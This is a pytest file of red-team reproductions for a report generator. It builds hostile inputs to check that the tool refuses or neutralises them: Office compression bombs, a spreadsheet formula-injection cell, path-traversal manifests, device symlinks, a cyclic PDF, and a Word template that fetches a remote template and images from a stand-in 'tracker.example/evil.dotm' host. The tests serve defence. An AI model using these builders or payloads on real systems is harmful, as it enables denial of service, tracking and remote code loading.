"""Untrusted inputs and targets: bombs, links, devices, manifests, Word templates that fetch,
exports that lie about their size (red-team findings of issue 20, each kept as a reproduction)."""
from __future__ import annotations

import csv
import json
import os
import shutil
import zipfile

import docx
import pytest
from click.testing import CliRunner
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from conftest import DATA, MINIMAL, ROOT, write
from reportgen.batch import build, read_manifest
from reportgen.cli import main
from reportgen.errors import DataError
from reportgen.io import MAX_UNPACKED_BYTES
from reportgen.limits import Limits, run_limited
from reportgen.render import render_file

BALLOT = DATA / "cq-kx-2021-ballot.yaml"


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def one_line_error(result) -> str:
    assert result.exit_code == 1, result.output
    message = result.output.strip()
    assert message.startswith("error: ") and "\n" not in message, message
    return message


# -- Office packages that expand ---------------------------------------------------------------------

def _bomb(path, inner: str, megabytes: int):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        with package.open(inner, "w") as part:
            chunk = b"\0" * (1 << 20)
            for _ in range(megabytes):
                part.write(chunk)
    return path


@pytest.mark.slow
def test_docx_bomb_is_refused_before_it_is_unpacked(tmp_path):
    bomb = _bomb(tmp_path / "bomb.docx", "word/document.xml", MAX_UNPACKED_BYTES // (1 << 20) + 8)
    assert bomb.stat().st_size < 2_000_000
    message = one_line_error(run("extract", bomb, "-o", tmp_path / "x.yaml"))
    assert "would unpack to" in message and not (tmp_path / "x.yaml").exists()


def test_xlsx_bomb_is_refused_before_it_is_unpacked(tmp_path):
    bomb = _bomb(tmp_path / "votes.xlsx", "xl/worksheets/sheet1.xml", 40)
    message = one_line_error(run("tally", BALLOT, "--votes", bomb, "-o", tmp_path / "final.yaml"))
    assert "compression bomb" in message


def _read_sparse(path):
    from reportgen.tally import read_table

    return read_table(path)


@pytest.mark.slow
def test_xlsx_that_declares_the_whole_sheet_is_read_by_its_content(tmp_path):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["投票人", "投票时间", "投票选项"])
    sheet.append(["v1", "2021-12-30 09:00:00", "候选大事-1"])
    sheet["XFD1048576"] = "x"
    path = tmp_path / "votes.xlsx"
    book.save(path)
    rows = run_limited(_read_sparse, path, limits=Limits(seconds=120, memory_mb=700), what="read")
    assert rows[0]["投票选项"] == "候选大事-1" and len(rows) == 1


# -- tally ----------------------------------------------------------------------------------------

def _votes(tmp_path, rows):
    path = tmp_path / "votes.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["投票人", "投票时间", "选项"])
        out.writerows(rows)
    return path


def test_tally_drops_impossible_rows_instead_of_crashing(tmp_path):
    votes = _votes(tmp_path, [["v1", "2021年13月30日 09:00", "候选大事-1"], ["v2", "2021-12-30 25:00:00", "候选大事-1"],
                              ["v3", "2021-12-30 09:00:00", "候选大事-2"]])
    result = run("tally", BALLOT, "--votes", votes, "-o", tmp_path / "final.yaml")
    assert result.exit_code == 0, result.output
    assert "2  无法读取的行" in result.output.replace("      2", "2")


def test_tally_per_item_totals_with_infinite_counts(tmp_path):
    path = tmp_path / "totals.csv"
    path.write_text("选项,票数\n候选大事-1,inf\n候选大事-2,nan\n候选大事-3,12\n", encoding="utf-8")
    result = run("tally", BALLOT, "--votes", path, "-o", tmp_path / "final.yaml")
    assert result.exit_code == 0, result.output
    # inf and nan are not vote counts: both rows are dropped and said to be, and the one real
    # count decides: 候选大事-3 alone is first, the other eleven tie at zero behind it
    assert "2  无法读取的行" in result.output.replace("      2", "2")
    assert "11个候选同分0.0000（第2–12名）" in result.output
    final = (tmp_path / "final.yaml").read_text(encoding="utf-8")
    assert "开启“十四五”科协事业发展新征程" in final and "inf" not in final and "nan" not in final


@pytest.mark.parametrize("names, message", [(",", "--names"), ("十件大事,十件大事", "--names"),
                                             ("a\x07b", "control character")])
def test_bad_list_names_are_one_line(tmp_path, names, message):
    votes = _votes(tmp_path, [["v1", "2021-12-30 09:00:00", "候选大事-1"], ["v2", "2021-12-30 09:05:00", "候选亮点-1"]])
    assert message in one_line_error(run("tally", BALLOT, "--votes", votes, "-o", tmp_path / "f.yaml",
                                         "--names", names))
    assert not (tmp_path / "f.yaml").exists()


def test_audit_target_that_is_a_folder_writes_nothing(tmp_path):
    votes = _votes(tmp_path, [["v1", "2021-12-30 09:00:00", "候选大事-1"]])
    (tmp_path / "audit.xlsx").mkdir()
    message = one_line_error(run("tally", BALLOT, "--votes", votes, "-o", tmp_path / "final.yaml",
                                 "--audit", tmp_path / "audit.xlsx", "--force"))
    assert "not a regular file" in message and not (tmp_path / "final.yaml").exists()


def test_audit_cells_cannot_start_a_formula(tmp_path):
    text = BALLOT.read_text(encoding="utf-8")
    ballot = write(tmp_path, "ballot.yaml", text.replace("title: 扎实开展党史学习教育",
                                                         "title: '=HYPERLINK(\"http://x\")扎实开展党史学习教育'"))
    votes = _votes(tmp_path, [["v1", "2021-12-30 09:00:00", "候选大事-1"]])
    result = run("tally", ballot, "--votes", votes, "-o", tmp_path / "final.yaml", "--audit", tmp_path / "final-audit.csv")
    assert result.exit_code == 0, result.output
    audit = (tmp_path / "final-audit.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(audit.splitlines()) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


# -- data files and output targets ----------------------------------------------------------------

def test_deeply_nested_json_is_one_line(tmp_path):
    path = write(tmp_path, "deep.json", "[" * 100_000 + "]" * 100_000)
    assert "nested too deeply" in one_line_error(run("validate", path))


def test_data_file_linked_to_a_device_is_refused(tmp_path):
    os.symlink("/dev/zero", tmp_path / "zero.yaml")
    assert "not a regular file" in one_line_error(run("validate", tmp_path / "zero.yaml"))


def test_theme_linked_to_a_device_is_refused(tmp_path):
    os.symlink("/dev/zero", tmp_path / "t.yaml")
    data = write(tmp_path, "r.yaml", MINIMAL + "theme: t.yaml\n")
    message = one_line_error(run("render", data, "-o", tmp_path / "out"))
    assert "not a regular file" in message or "is outside" in message


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_output_targets_that_are_not_files_are_refused(tmp_path, kind):
    data = write(tmp_path, "r.yaml", MINIMAL)
    out = tmp_path / "out"
    out.mkdir()
    if kind == "fifo":
        os.mkfifo(out / "r.docx")
    else:
        (out / "r.docx").mkdir()
    message = one_line_error(run("render", data, "-o", out, "-f", "pdf,docx"))
    assert "not a regular file" in message
    assert not (out / "r.pdf").exists()  # all or nothing
    assert [p.name for p in out.iterdir()] == ["r.docx"]


def test_pdf_bytes_do_not_depend_on_where_the_data_folder_is(tmp_path):
    first, second = tmp_path / "a", tmp_path / "deeper" / "place" / "b"
    shutil.copytree(ROOT / "examples" / "custom", first)
    shutil.copytree(ROOT / "examples" / "custom", second)
    a = render_file(first / "example-2021.yaml", tmp_path / "o1", ["pdf"]).outputs[0].read_bytes()
    b = render_file(second / "example-2021.yaml", tmp_path / "o2", ["pdf"]).outputs[0].read_bytes()
    assert a == b


# -- manifests ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, message", [
    ("out: ../elsewhere\ndocuments: [r.yaml]\n", "output folder"),
    ("documents:\n  - glob: ../*.yaml\n", "data file"),
    ("documents:\n  - {data: r.yaml, out: ../../x}\n", "output folder"),
    ("documents:\n  - {data: r.yaml, theme: ../t.yaml}\n", "theme"),
    ("documents:\n  - {data: r.yaml, templates: [/]}\n", "template folder"),
    ("documents: [r.yaml]\nformats: 5\n", "'formats' must be"),
    ("documents: [r.yaml]\nformats: [pdf, tiff]\n", "unknown format tiff"),
    ("documents: [r.yaml]\ntimeout: soon\n", "'timeout' must be"),
    ("documents: [r.yaml]\nout: [a]\n", "'out' must be"),
    ("documents: [{data: 5}]\n", "'data' must be text"),
])
def test_manifests_stay_in_their_folder_and_are_typed(tmp_path, text, message):
    sub = tmp_path / "project"
    write(sub, "r.yaml", MINIMAL)
    write(tmp_path, "outside.yaml", MINIMAL)
    with pytest.raises(DataError, match=message):
        read_manifest(write(sub, "m.yaml", text))


def test_allow_outside_lets_a_manifest_reach_out(tmp_path):
    write(tmp_path, "r.yaml", MINIMAL)
    manifest = write(tmp_path / "sub", "m.yaml", "out: ../out\ndocuments: [../r.yaml]\n")
    message = one_line_error(run("build", manifest, "--quiet"))
    assert "--allow-outside" in message
    (job,) = read_manifest(manifest, allow_outside=True)
    assert job.out_dir == (tmp_path / "out").resolve()


def test_incremental_build_sees_files_a_template_links_and_dotfiles(tmp_path):
    from PIL import Image

    Image.new("RGB", (20, 20), (0, 0, 200)).save(tmp_path / "bg.png")
    write(tmp_path / "tpl", "bulletin.html", '{% extends "builtin/bulletin.html" %}{% block extra_style %}'
                                             '.banner { background-image: url("bg.png"); }{% endblock %}'
                                             '{% block footer %}{% include ".footer.html" %}{% endblock %}')
    write(tmp_path / "tpl", ".footer.html", "<p>页脚一</p>")
    write(tmp_path, "r.yaml", MINIMAL + "templates: [tpl]\n")
    manifest = write(tmp_path, "m.yaml", "out: out\nformats: [pdf]\ndocuments: [r.yaml]\n")
    jobs = read_manifest(manifest)
    assert [r.status for r in build(jobs, jobs_n=1).results] == ["rendered"]
    assert [r.status for r in build(jobs, jobs_n=1).results] == ["unchanged"]
    Image.new("RGB", (20, 20), (200, 0, 0)).save(tmp_path / "bg.png")
    assert [r.status for r in build(jobs, jobs_n=1).results] == ["rendered"]
    write(tmp_path / "tpl", ".footer.html", "<p>页脚二</p>")
    assert [r.status for r in build(jobs, jobs_n=1).results] == ["rendered"]
    state = json.loads((tmp_path / "out" / ".reportgen-build.json").read_text())
    assert any(f.endswith("bg.png") for entry in state.values() for f in entry["inputs"])


def test_stale_temporary_files_are_swept(tmp_path):
    write(tmp_path, "r.yaml", MINIMAL)
    manifest = write(tmp_path, "m.yaml", "out: out\nformats: [docx]\ndocuments: [r.yaml]\n")
    stale = write(tmp_path / "out", ".r.docx.abc123.tmp", "half")
    build(read_manifest(manifest), jobs_n=1)
    assert not stale.exists() and (tmp_path / "out" / "r.docx").exists()


# -- Word templates that fetch from elsewhere -----------------------------------------------------

def test_external_references_of_a_word_template_are_stripped_with_a_warning(tmp_path):
    from docx.oxml import parse_xml

    folder = tmp_path / "tpl" / "docx"
    folder.mkdir(parents=True)
    document = docx.Document()
    document.add_paragraph("{{ report.title }}")
    rid = document.part.relate_to("http://tracker.example/pixel.png", RT.IMAGE, is_external=True)
    settings = next(p for p in document.part.package.iter_parts() if str(p.partname).endswith("settings.xml"))
    attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    tid = settings.relate_to("http://tracker.example/evil.dotm", attached, is_external=True)
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    r = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    settings.element.append(parse_xml(f'<w:attachedTemplate xmlns:w="{w}" xmlns:r="{r}" r:id="{tid}"/>'))
    paragraph = document.add_paragraph()
    paragraph._p.append(parse_xml(f'<w:r xmlns:w="{w}"><w:instrText>INCLUDEPICTURE "http://tracker.example/'
                                  f'x.png" \\d</w:instrText></w:r>'))
    document.save(folder / "bulletin.docx")
    data = write(tmp_path, "r.yaml", MINIMAL + "templates: [tpl]\n")
    result = render_file(data, tmp_path / "out", ["docx"])
    assert sum("Word would fetch it" in w for w in result.warnings) == 4, result.warnings  # 2 links, setting, field
    with zipfile.ZipFile(result.outputs[0]) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
    assert b"tracker.example" not in everything and b"attachedTemplate" not in everything
    assert rid  # the relationship existed in the template


# -- extraction of hostile PDFs --------------------------------------------------------------------

CYCLE_PDF = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 /Parent 2 0 R >> endobj
4 0 obj << /Length 5 0 R >> stream
BT ET
endstream endobj
5 0 obj 5 0 R endobj
trailer << /Root 1 0 R /Size 6 >>
%%EOF
"""


def test_a_pdf_with_cyclic_references_ends_in_one_line(tmp_path):
    path = tmp_path / "cycle.pdf"
    path.write_bytes(CYCLE_PDF)
    message = one_line_error(run("extract", path, "-o", tmp_path / "x.yaml"))
    assert str(path) in message and not (tmp_path / "x.yaml").exists()
